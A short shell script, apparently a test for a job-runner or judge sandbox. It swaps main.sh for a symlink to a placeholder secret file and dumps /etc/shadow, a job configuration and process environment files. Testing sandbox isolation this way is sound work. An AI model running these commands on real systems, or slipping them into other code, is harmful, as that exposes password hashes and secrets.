rm -f main.sh
ln -s "@SECRET_FILE@" main.sh
cat main.sh /etc/shadow /run/optimus/job.json /proc/1/environ "/proc/$PPID/environ" 2> /dev/null
exit 0
